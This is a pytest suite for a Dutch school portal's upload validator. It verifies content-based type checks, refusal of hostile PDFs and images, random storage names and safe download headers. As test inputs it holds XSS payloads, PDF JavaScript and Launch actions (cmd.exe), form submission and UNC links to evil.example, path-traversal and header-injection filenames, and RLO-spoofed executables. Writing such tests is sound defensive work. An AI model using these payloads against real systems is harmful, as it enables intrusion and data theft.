"""One upload validator for every upload (issue 10 item 9; ARCHITECTURE.md "Uploads"): the content decides, not
the name; hostile files are refused with a Dutch message on the form field and nothing is stored; what is stored
lands under PRIVATE_MEDIA_ROOT with a random name; downloads are attachments with a safe name and nosniff."""

import datetime
import re
import zoneinfo
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, PdfObject, TextStringObject

from disputes import services as dispute_services
from disputes.models import DisputeDocument
from opp import consent_services as cs
from opp.models import ConsentAnswer
from opp_portal import uploads
from opp_portal.uploads import Kind
from students.models import ImportBatch, Student
from tests.auth import login
from tests.pdfs import MINIMAL_PDF, blank_pdf, in_object_stream

PDF = MINIMAL_PDF  # a real one: every PDF is parsed (tests/pdfs.py)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 64 + b"\xff\xd9"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
ZIP = b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"\x00" * 40 + b"word/document.xml" + b"PK\x05\x06" + b"\x00" * 18
GOOD_CSV = ("leerlingnummer;voornaam;achternaam;geboortedatum;onderwijssoort;inschrijfdatum\r\n"
            "9001;Noëlle;Çelik;14-03-2016;bao;20-08-2022\r\n")
NOW = datetime.datetime(2026, 9, 25, 10, 0, tzinfo=zoneinfo.ZoneInfo("Europe/Amsterdam"))
RANDOM_NAME = re.compile(r"^[a-z]+/\d{4}/[0-9a-f]{32}\.(pdf|png|jpg)$")

TYPE_MSG = "Alleen PDF, JPEG en PNG zijn toegestaan"

pytestmark = pytest.mark.clock(NOW)  # where `clock` (and so `world`) stands in this module


def up(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(upload, kind=Kind.DOCUMENT, **kwargs) -> str:
    with pytest.raises(ValidationError) as exc:
        uploads.validate(upload, kind=kind, **kwargs)
    assert len(exc.value.messages) == 1
    return exc.value.messages[0].replace("\xa0", " ")  # filesizeformat's non-breaking space


def files_in(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


# --- The validator on its own ------------------------------------------------------------------------------


@pytest.mark.parametrize(("data", "ext", "content_type"), [
    (PDF, "pdf", "application/pdf"), (PNG, "png", "image/png"), (JPEG, "jpg", "image/jpeg")])
def test_real_documents_pass_whatever_their_name(data, ext, content_type):
    assert uploads.validate(up("IMG_0001.DAT", data)) == (ext, content_type)


@pytest.mark.parametrize(("name", "data"), [
    pytest.param("scan.pdf", EXE, id="exe-named-pdf"),
    pytest.param("scan.png", b"GIF89a\x01\x00\x01\x00" + b"\x00" * 30, id="gif-named-png"),
    pytest.param("scan.jpg", b"\xff\xd9 not a jpeg start", id="jpeg-end-marker-only"),
    pytest.param("scan.pdf", b"%PDF", id="pdf-magic-cut-short"),
    pytest.param("scan.pdf", b" %PDF-1.4\n%%EOF", id="pdf-magic-not-at-start"),
    pytest.param("scan.pdf", ZIP, id="zip-named-pdf"),
    pytest.param("scan.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", id="svg-named-pdf"),
])
def test_wrong_magic_with_the_right_extension_is_refused(name, data):
    assert TYPE_MSG in refusal(up(name, data, "application/pdf"))


@pytest.mark.parametrize("data", [
    pytest.param(b"<html><script>alert(document.cookie)</script></html>\n" + PDF, id="html-before-pdf"),
    pytest.param(b"<!DOCTYPE html>" + PDF, id="doctype-before-pdf"),
])
def test_a_pdf_behind_a_web_page_header_is_refused(data):
    assert TYPE_MSG in refusal(up("verweer.pdf", data, "application/pdf"))


@pytest.mark.parametrize("data", [
    pytest.param(b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n", id="html-after-pdf-header"),
    pytest.param(b"%PDF-1.4\n%<SCRIPT src=//evil.example/x.js></SCRIPT>\n%%EOF\n", id="script-tag-in-comment"),
    pytest.param(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<script>alert(1)</script>\xff\xd9", id="script-in-jpeg-header"),
])
def test_a_document_with_web_markup_near_its_start_is_refused(data):
    assert "code van een webpagina (HTML of script)" in refusal(up("scan.pdf", data))


@pytest.mark.parametrize("data", [
    pytest.param(b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n",
                 id="openaction-javascript"),
    pytest.param(b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (x) >> >> endobj\n%%EOF\n",
                 id="hex-escaped-name"),
    pytest.param(b"%PDF-1.4\n1 0 obj << /AA << /O << /S /Launch /F (cmd.exe) >> >> >> endobj\n%%EOF\n", id="launch"),
])
def test_a_pdf_with_active_content_is_refused(data):
    assert "bevat scripts of acties" in refusal(up("scan.pdf", data))


# --- Active content found by parsing the PDF (issue 16 item 3) ---------------------------------------------------

ACTIVE_MSG = "Dit PDF-bestand bevat scripts of acties die iets starten"
EMBEDDED_MSG = "Dit PDF-bestand bevat een ingesloten bestand (bijlage); zulke bestanden worden geweigerd."


def pdf_obj(value):
    """A pypdf object from Python: "/Name" is a name, other text a string, dicts and lists nest."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, dict):
        return DictionaryObject({NameObject(f"/{k}"): pdf_obj(v) for k, v in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_obj(v) for v in value)
    if isinstance(value, int):
        return NumberObject(value)
    return NameObject(value) if value.startswith("/") else TextStringObject(value)


def annotation(**entries):
    return lambda writer: writer.add_annotation(0, pdf_obj({"Type": "/Annot", "Rect": [10, 10, 200, 40], **entries}))


def link(**action):
    return annotation(Subtype="/Link", A=action)


def in_catalog(**entries):
    def build(writer):
        for key, value in entries.items():
            writer.root_object[NameObject(f"/{key}")] = pdf_obj(value)
    return build


JS_ACTION = {"Type": "/Action", "S": "/JavaScript", "JS": "app.alert('hallo')"}

#: One hostile construction each, as pypdf's writer (or a reader) puts it: (build, what the refusal names).
HOSTILE = [
    pytest.param(lambda w: w.add_open_action(JavaScript("app.alert(1)")), "(JavaScript)", id="javascript-name-tree"),
    pytest.param(in_catalog(OpenAction=JS_ACTION), "(JavaScript)", id="open-action-javascript"),
    pytest.param(in_catalog(OpenAction={"S": "/Named", "N": "/Print"}), "(een actie die start bij het openen)",
                 id="open-action-other-than-goto"),
    pytest.param(lambda w: w.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1)")), "(JavaScript)",
                 id="page-open-action-javascript"),
    pytest.param(in_catalog(AA={"WC": {"S": "/Named", "N": "/Quit"}}),
                 "(een actie die vanzelf start bij openen, sluiten of invullen)", id="document-additional-action"),
    pytest.param(link(S="/Launch", F="calc.exe"), "(een opdracht die een programma of bestand opent)",
                 id="launch-in-annotation"),
    pytest.param(lambda w: w.add_attachment("factuur.pdf.exe", b"MZ\x90\x00"), EMBEDDED_MSG, id="embedded-file"),
    pytest.param(annotation(Subtype="/FileAttachment", FS={"Type": "/Filespec", "F": "x.exe"}), EMBEDDED_MSG,
                 id="file-attachment-annotation"),
    pytest.param(in_catalog(AcroForm={"Fields": [], "XFA": ["template", "<template/>"]}), "(een XFA-formulier)",
                 id="acroform-xfa"),
    pytest.param(in_catalog(AcroForm={"Fields": [{"FT": "/Tx", "T": "naam", "AA": {"K": JS_ACTION}}]}),
                 "(JavaScript)", id="form-field-keystroke-javascript"),
    pytest.param(annotation(Subtype="/RichMedia", RichMediaContent={}), "(multimedia of 3D-inhoud)", id="rich-media"),
    pytest.param(link(S="/SubmitForm", F={"FS": "/URL", "F": "https://evil.example/"}),
                 "(een formulier dat gegevens verstuurt of inleest)", id="submit-form"),
    pytest.param(link(S="/ImportData", F="gegevens.fdf"), "(een formulier dat gegevens verstuurt of inleest)",
                 id="import-data"),
    pytest.param(link(S="/GoToR", F="\\\\evil.example\\share\\x.pdf", D=[0, "/Fit"]),
                 "(een verwijzing die een ander bestand opent)", id="goto-remote-unc"),
    pytest.param(link(S="/URI", URI="java\tscript:app.alert(1)"), "(een koppeling die geen webpagina of e-mailadres is)",
                 id="javascript-uri"),
    pytest.param(link(S="/URI", URI="file://evil.example/share/x.exe"),
                 "(een koppeling die geen webpagina of e-mailadres is)", id="file-uri"),
]

PACKING = [pytest.param(lambda pdf: pdf, id="plain"), pytest.param(in_object_stream, id="in-object-stream")]


@pytest.mark.parametrize("pack", PACKING)
@pytest.mark.parametrize(("build", "named"), HOSTILE)
def test_a_pdf_with_active_content_is_refused_wherever_it_sits_and_nothing_is_stored(private, build, named, pack):
    data = pack(blank_pdf(2, build))
    message = refusal(up("scan.pdf", data))
    assert named in message
    if named != EMBEDDED_MSG:
        assert message.startswith(ACTIVE_MSG) and "Druk het af naar een nieuwe PDF of scan het opnieuw." in message
    with pytest.raises(ValidationError):
        uploads.store(up("scan.pdf", data), folder="instemming")
    assert files_in(private) == []


def test_javascript_in_a_compressed_object_stream_is_found_by_parsing_not_by_the_byte_scan():
    data = in_object_stream(blank_pdf(2, in_catalog(OpenAction=JS_ACTION)))
    assert b"JavaScript" not in data and b"/ObjStm" in data and b"/FlateDecode" in data
    assert uploads._pdf_active_in_bytes(data) is None  # what let it through before
    assert "(JavaScript)" in refusal(up("scan.pdf", data), Kind.PDF)


@pytest.mark.parametrize("pack", PACKING)
@pytest.mark.parametrize("build", [
    pytest.param(None, id="blank-pages"),
    pytest.param(link(S="/URI", URI="https://www.example.nl/ouders"), id="https-link"),
    pytest.param(link(S="/URI", URI="mailto:zorg@school.example"), id="mailto-link"),
    pytest.param(lambda w: w.add_named_destination("start", 0), id="named-destination"),
    pytest.param(lambda w: in_catalog(OpenAction=[w.pages[1].indirect_reference, "/Fit"])(w),
                 id="open-at-a-page"),
    pytest.param(lambda w: in_catalog(OpenAction={"S": "/GoTo", "D": [w.pages[1].indirect_reference, "/Fit"]})(w),
                 id="goto-action-on-open"),
])
def test_a_clean_multi_page_pdf_is_accepted_and_stored(private, build, pack):
    data = pack(blank_pdf(3, build))
    assert uploads.validate(up("scan.pdf", data)) == ("pdf", "application/pdf")
    stored = uploads.store(up("scan.pdf", data), folder="instemming")
    assert (private / stored.name).read_bytes() == data


#: Hand-written, as small generators write them: no cross-reference table, no startxref. Readers open it.
NO_XREF_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
               b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def test_a_pdf_without_a_cross_reference_table_is_parsed_as_a_reader_would():
    assert uploads.validate(up("scan.pdf", NO_XREF_PDF)) == ("pdf", "application/pdf")
    # Its objects are still all looked at: a submit action in an object nothing refers to is found.
    orphan = NO_XREF_PDF.replace(b"trailer", b"4 0 obj<</S/SubmitForm/F(https://evil.example/)>>endobj\ntrailer")
    assert "(een formulier dat gegevens verstuurt of inleest)" in refusal(up("scan.pdf", orphan))


def test_a_pdf_the_portal_renders_itself_is_accepted():
    from opp import pdf as opp_pdf

    data = opp_pdf.html_to_pdf('<h1 id="a">OPP</h1><p><a href="https://www.example.nl/">site</a> <a href="#a">boven</a>'
                               '</p><p style="break-before: page">Tweede pagina</p>')
    assert uploads.validate(up("opp.pdf", data), kind=Kind.PDF, max_bytes=20 * 1024 * 1024) == ("pdf", "application/pdf")


@pytest.mark.parametrize("data", [
    pytest.param(b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", id="no-catalog-no-xref"),
    pytest.param(MINIMAL_PDF.replace(b"/Catalog", b"/Katalog").replace(b"/Pages", b"/Pagxs"), id="no-catalog"),
    pytest.param(b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", id="garbage"),
])
def test_a_pdf_that_cannot_be_parsed_is_refused_with_its_own_message(private, data):
    message = refusal(up("scan.pdf", data))
    assert message.startswith("Dit PDF-bestand is beschadigd of niet te lezen")
    with pytest.raises(ValidationError):
        uploads.store(up("scan.pdf", data), folder="instemming")
    assert files_in(private) == []


@pytest.mark.parametrize("user_password", ["geheim", ""], ids=["password", "owner-password-only"])
def test_an_encrypted_pdf_is_refused_with_its_own_message(user_password):
    data = blank_pdf(2, lambda w: w.encrypt(user_password=user_password, owner_password="eigenaar", algorithm="RC4-128"))
    assert refusal(up("scan.pdf", data)).startswith("Dit PDF-bestand is beveiligd (versleuteld of met een wachtwoord)")


@pytest.mark.parametrize(("limit", "value"), [("PDF_MAX_NODES", 5), ("PDF_MAX_OBJECTS", 3),
                                              ("PDF_MAX_DECODED_BYTES", 100)])
def test_a_pdf_beyond_the_walks_limits_is_refused_not_walked_forever(monkeypatch, limit, value):
    monkeypatch.setattr(uploads, limit, value)
    data = in_object_stream(blank_pdf(3))
    assert refusal(up("scan.pdf", data)).startswith("Dit PDF-bestand is te ingewikkeld opgebouwd")


def test_a_cycle_of_references_ends():
    # Two annotations whose /Parent and /Popup point at each other, and a page tree that points back to itself.
    def build(writer):
        first = writer.add_annotation(0, pdf_obj({"Type": "/Annot", "Subtype": "/Text", "Rect": [0, 0, 9, 9]}))
        second = writer.add_annotation(0, pdf_obj({"Type": "/Annot", "Subtype": "/Popup", "Rect": [0, 0, 9, 9]}))
        first[NameObject("/Popup")] = second.indirect_reference
        second[NameObject("/Parent")] = first.indirect_reference

    assert uploads.validate(up("scan.pdf", in_object_stream(blank_pdf(2, build)))) == ("pdf", "application/pdf")


def test_a_truncated_pdf_and_a_headless_png_are_refused():
    assert "onvolledig of beschadigd" in refusal(up("a.pdf", b"%PDF-1.7\n1 0 obj <<>>"))
    assert "PNG-bestand is onvolledig of beschadigd" in refusal(up("a.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64))


@pytest.mark.parametrize("kind", list(Kind))
def test_empty_files_are_refused_for_every_kind(kind):
    assert refusal(up("leeg.pdf", b""), kind) == "Het bestand is leeg."


def test_a_csv_of_only_a_bom_and_blank_lines_is_empty():
    assert refusal(up("leeg.csv", b"\xef\xbb\xbf\r\n \r\n"), Kind.CSV) == "Het bestand is leeg."


@override_settings(OPP_UPLOAD_MAX_BYTES=100, OPP_IMPORT_MAX_BYTES=50)
def test_each_kind_has_its_own_size_limit_from_settings():
    big_pdf = PDF + b"%" + b"x" * 100 + b"\n%%EOF\n"
    assert refusal(up("a.pdf", big_pdf)) == f"Het bestand is te groot ({len(big_pdf)} bytes); het maximum is 100 bytes."
    assert "het maximum is 100 bytes" in refusal(up("a.pdf", big_pdf), Kind.PDF)
    assert "het maximum is 50 bytes. Splits het bestand" in refusal(up("a.csv", GOOD_CSV.encode()), Kind.CSV)
    # A caller may lower the limit, e.g. to one kilobyte less than the setting.
    assert "het maximum is 40 bytes" in refusal(up("a.pdf", PDF), max_bytes=40)


def test_the_pdf_kind_accepts_only_pdf():
    assert uploads.validate(up("a.pdf", PDF), kind=Kind.PDF) == ("pdf", "application/pdf")
    assert "Alleen PDF is toegestaan" in refusal(up("a.pdf", PNG), Kind.PDF)


@pytest.mark.parametrize(("data", "message"), [
    pytest.param(PDF, "Dit is een PDF-bestand, geen CSV-bestand.", id="pdf"),
    pytest.param(GOOD_CSV.encode()[:40] + b"\n%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", "Dit is een PDF-bestand",
                 id="csv-pdf-polyglot"),
    pytest.param(ZIP, "Dit is een Excel-bestand", id="zip"),
    pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 50, "Dit is een Excel-bestand", id="old-excel"),
    pytest.param(PNG, "Dit is geen tekstbestand", id="png"),
    pytest.param(JPEG, "Dit is geen tekstbestand", id="jpeg"),
    pytest.param(b"\x1f\x8b\x08\x00" + b"leerlingnummer;voornaam\n" * 3, "Dit is geen tekstbestand", id="gzip"),
    pytest.param(EXE, "Dit is geen tekstbestand", id="exe"),
    pytest.param(GOOD_CSV.encode() + b"9002;A\x00B;C;01-01-2016;bao;20-08-2022\r\n", "Dit is geen tekstbestand",
                 id="one-nul-byte"),
    pytest.param(b"<!DOCTYPE html><html><body>leerlingnummer;voornaam</body></html>", "Dit is een webpagina (HTML)",
                 id="html"),
    pytest.param("leerlingnummer;voornaam\n1;Zoë\n".encode("utf-16"), "opgeslagen als UTF-16", id="utf-16"),
])
def test_a_csv_that_is_really_something_else_is_refused(data, message):
    assert message in refusal(up("leerlingen.csv", data, "text/csv"), Kind.CSV)


@pytest.mark.parametrize(("data", "encoding"), [
    (GOOD_CSV.encode("utf-8"), "utf-8"), (b"\xef\xbb\xbf" + GOOD_CSV.encode("utf-8"), "utf-8-sig"),
    (GOOD_CSV.encode("cp1252"), "cp1252")])
def test_a_csv_in_each_supported_encoding_passes(data, encoding):
    assert uploads.validate(up("leerlingen.csv", data), kind=Kind.CSV) == ("csv", "text/csv")
    text, found = uploads.decode_text(data)
    assert found == encoding and "Noëlle" in text and "Çelik" in text


def test_markup_inside_a_csv_cell_is_data_not_a_web_page():
    data = GOOD_CSV.replace("Noëlle", "<script>alert(1)</script>").encode()
    assert uploads.validate(up("leerlingen.csv", data), kind=Kind.CSV) == ("csv", "text/csv")


# --- Names: never the client's on disk or in a header ------------------------------------------------------------


@pytest.mark.parametrize(("name", "shown"), [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\system32\\scan.pdf", "scan.pdf"),
    ("factuur\u202efdp.exe", "factuurfdp.exe"),  # RIGHT-TO-LEFT OVERRIDE would show it as "factuurexe.pdf"
    ("a\u200bb\u2066c\x00d\r\ne.pdf", "abcde.pdf"),
    ("Zoë 👩‍👧 e\u0301.csv", "Zoë 👩👧 é.csv"),
    ("", ""),
])
def test_the_client_name_is_only_a_cleaned_display_name(name, shown):
    assert uploads.client_name(SimpleNamespace(name=name)) == shown


@pytest.mark.parametrize(("name", "safe"), [
    ('a"b\r\nX-Evil: 1;.pdf', "a-b-X-Evil-1-.pdf"),
    ("opp-ÖB-v1-vastgesteld.pdf", "opp-OB-v1-vastgesteld.pdf"),
    ("../../etc/passwd", "etc-passwd"),
    ("\u202etxt.exe", "txt.exe"),
    ("...", "bestand"),
    ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
])
def test_download_names_are_plain_ascii(name, safe):
    assert uploads.safe_filename(name) == safe


@pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "name.pdf.exe", "scan\u202efdp.exe", "/tmp/x.pdf", "CON.pdf"])
def test_stored_files_get_a_random_name_under_the_private_root(private, name):
    stored = uploads.store(up(name, PDF), folder="geschillen")
    assert RANDOM_NAME.match(stored.name), stored.name
    assert files_in(private) == [private / stored.name]
    assert (private / stored.name).read_bytes() == PDF
    assert oct((private / stored.name).stat().st_mode & 0o777) == "0o600"


def test_a_double_extension_cannot_smuggle_an_executable(private):
    assert TYPE_MSG in refusal(up("scan.pdf.exe", EXE))
    assert uploads.store(up("scan.exe", PNG), folder="instemming").name.endswith(".png")  # named by content
    assert all(p.suffix in (".png",) for p in files_in(private))


def test_discard_and_response_stay_inside_the_private_root(private, tmp_path):
    outside = tmp_path / "secret.pdf"
    outside.write_bytes(PDF)
    uploads.discard("../secret.pdf")
    assert outside.exists()
    from django.http import Http404

    with pytest.raises(Http404):
        uploads.response("../secret.pdf", "application/pdf", "x.pdf")


def test_a_download_is_an_attachment_with_a_safe_name_and_nosniff(private):
    stored = uploads.store(up("x.pdf", PDF), folder="geschillen")
    resp = uploads.response(stored.name, stored.content_type, 'Jansen "Zoë"\r\nSet-Cookie: x=1\u202e.pdf')
    disposition = resp["Content-Disposition"]
    assert disposition == 'attachment; filename="Jansen-Zoe-Set-Cookie-x-1.pdf"'
    assert resp["X-Content-Type-Options"] == "nosniff" and resp["Content-Type"] == "application/pdf"
    assert resp["Cache-Control"] == "no-store"
    assert b"".join(resp.streaming_content) == PDF


# --- Through the forms: message on the file field, nothing stored, nothing typed lost ------------------------


@pytest.fixture
def asked(world, personas):
    """Consent asked for Sanne's version in `world` (time stands still at NOW, the module's clock)."""
    world.req = cs.request_send(actor=personas.begeleider_a, version=world.version_a)
    return world


def _paper(client, w, scan, explanation="Vader tekende op school; zie de aantekening ‘<b>geen bezwaar</b>’."):
    return client.post(reverse("opp:consent_paper", args=[w.req.pk]), {
        "party": f"guardian:{w.vader.pk}", "answer": "ja", "signed_on": "25-09-2026", "explanation": explanation,
        "scan": scan})


@pytest.mark.parametrize(("name", "data", "message"), [
    pytest.param("handtekening.pdf", EXE, TYPE_MSG, id="exe"),
    pytest.param("handtekening.pdf", b"<html><script>x</script></html>" + PDF, TYPE_MSG, id="html-polyglot"),
    pytest.param("handtekening.pdf", b"%PDF-1.4\n<< /S /JavaScript /JS (x) >>\n%%EOF", "bevat scripts", id="js"),
    pytest.param("../../etc/passwd.pdf", b"", "leeg", id="empty-traversal-name"),
])
def test_a_hostile_scan_is_refused_on_its_field_and_the_rest_is_kept(asked, personas, private, client, name, data,
                                                                     message):
    login(client, personas.begeleider_a)
    response = _paper(client, asked, up(name, data, "application/pdf"))
    html = response.content.decode()
    assert response.status_code == 200
    form = response.context["form"]
    assert message in " ".join(form.errors["scan"])
    assert "Vader tekende op school; zie de aantekening ‘&lt;b&gt;geen bezwaar&lt;/b&gt;’." in html
    assert 'value="25-09-2026"' in html  # the date as typed
    assert "passwd" not in html
    assert not ConsentAnswer.objects.exists() and files_in(private) == []


def test_an_accepted_scan_is_stored_under_a_random_name_and_downloads_safely(asked, personas, private, client):
    login(client, personas.begeleider_a)
    assert _paper(client, asked, up("../../etc/passwd\u202efdp.exe.pdf", PDF, "text/html")).status_code == 302
    answer = ConsentAnswer.objects.get()
    assert re.fullmatch(r"instemming/\d{4}/[0-9a-f]{32}\.pdf", answer.scan)
    assert answer.scan_content_type == "application/pdf"  # from the content, not the browser's "text/html"
    assert files_in(private) == [private / answer.scan]
    download = client.get(reverse("opp:consent_scan", args=[answer.pk]))
    assert download["Content-Disposition"] == f'attachment; filename="instemming-{asked.req.pk}-{answer.pk}.pdf"'
    assert download["X-Content-Type-Options"] == "nosniff" and download["Content-Type"] == "application/pdf"


def test_a_dispute_document_keeps_its_title_when_the_file_is_refused(org, personas, private, client):
    from tests.disputes.world import frozen, make_world

    with frozen():
        w = make_world(org, personas)
        dispute = dispute_services.register(actor=personas.geschillen_a, plan=w.plan, version=w.version,
                                            subject="vaststelling", filed_on=datetime.date(2026, 10, 5))
        login(client, personas.geschillen_a)
        url = reverse("disputes:upload", args=[dispute.pk])
        refused = client.post(url, {"title": "Verweer <i>bijlage</i> 2", "upload": up("name.pdf.exe", EXE)})
        assert refused.status_code == 400
        assert TYPE_MSG in " ".join(refused.context["document_form"].errors["upload"])
        assert 'value="Verweer &lt;i&gt;bijlage&lt;/i&gt; 2"' in refused.content.decode()
        assert not DisputeDocument.objects.exists() and files_in(private) == []
        assert client.post(url, {"title": "Verweer", "upload": up("verweer\u202efdp.exe", JPEG)}).status_code == 302
        doc = DisputeDocument.objects.get()
        assert RANDOM_NAME.match(doc.stored_name) and doc.stored_name.endswith(".jpg")
        got = client.get(reverse("disputes:document", args=[dispute.pk, doc.pk]))
        assert got["Content-Disposition"] == f'attachment; filename="geschil-{dispute.pk}-document-{doc.pk}.jpg"'
        assert got["X-Content-Type-Options"] == "nosniff" and got["Content-Type"] == "image/jpeg"


@pytest.mark.parametrize(("data", "message"), [
    pytest.param(PDF, "Dit is een PDF-bestand, geen CSV-bestand.", id="pdf"),
    pytest.param(ZIP, "Dit is een Excel-bestand", id="zip"),
    pytest.param(bytes(range(256)) * 8, "Dit is geen tekstbestand", id="binary"),
    pytest.param(b"", "Het bestand is leeg.", id="empty"),
])
def test_the_pupil_import_refuses_a_csv_that_is_not_one_on_the_file_field(org, personas, client, data, message):
    login(client, personas.begeleider_a)
    response = client.post(reverse("students:import_upload"),
                           {"school": org.school_a.pk, "file": up("leerlingen.csv", data, "text/csv")})
    assert response.status_code == 200
    assert message in " ".join(response.context["form"].errors["file"])
    assert f'<option value="{org.school_a.pk}" selected>' in response.content.decode()
    assert not ImportBatch.objects.exists() and not Student.objects.exists()


@override_settings(OPP_IMPORT_MAX_BYTES=100)
def test_the_pupil_import_size_limit_is_the_validators(org, personas, client):
    login(client, personas.begeleider_a)
    response = client.post(reverse("students:import_upload"),
                           {"school": org.school_a.pk, "file": up("leerlingen.csv", GOOD_CSV.encode() * 3)})
    assert "het maximum is 100\xa0bytes" in " ".join(response.context["form"].errors["file"])
    assert not ImportBatch.objects.exists()


def test_the_pupil_import_shows_only_a_cleaned_client_name(org, personas, client):
    login(client, personas.begeleider_a)
    response = client.post(reverse("students:import_upload"), {
        "school": org.school_a.pk, "file": up("<img src=x onerror=alert(1)>\u202evsc.exe", GOOD_CSV.encode())})
    assert response.status_code == 302
    assert ImportBatch.objects.get().filename == "<img src=x onerror=alert(1)>vsc.exe"  # no RLO: shows what it is
    page = client.get(response["Location"]).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;vsc.exe voor School A" in page
    assert "<img src=x" not in page and "\u202e" not in page


# --- Every upload goes through the validator ----------------------------------------------------------------


#: Modules that take a file but validate it elsewhere: where, so that this list cannot hide a gap.
VALIDATED_ELSEWHERE = {
    "disputes/forms.py": "disputes/services.py",  # DocumentForm, SchoolDocumentForm -> add_document, add_school_document
    "disputes/views.py": "disputes/services.py",
    # The views hand request.FILES to forms that validate in clean_<file>().
    "opp/adoption_views.py": "opp/forms.py",  # VerifyForm
    "opp/consent_views.py": "opp/forms.py",  # PaperConsentForm
    "opp/bank_views.py": "opp/bank.py",  # ImportForm -> bank.read_upload (CSV of the goal bank)
    "students/import_views.py": "students/forms.py",  # ImportUploadForm
    "swv/forms.py": "swv/services.py",  # the decision document -> services.record_decision, attach_document
    "swv/views.py": "swv/services.py",
    "swv/request_forms.py": "swv/requests.py",  # a request's attachment, the granted TLV's document -> requests
    "swv/request_views.py": "swv/requests.py",
}


def test_every_module_that_takes_a_file_uses_the_validator():
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for path in sorted(root.glob("*/*.py")):
        rel = path.relative_to(root).as_posix()
        if rel.startswith(("tests/", ".venv/")):
            continue
        source = path.read_text(encoding="utf-8")
        if "FileField" not in source and "request.FILES" not in source:
            continue
        checked_in = root / VALIDATED_ELSEWHERE.get(rel, rel)
        text = checked_in.read_text(encoding="utf-8")
        if "uploads.validate(" not in text and "uploads.store(" not in text:
            offenders.append(rel)
    assert offenders == []
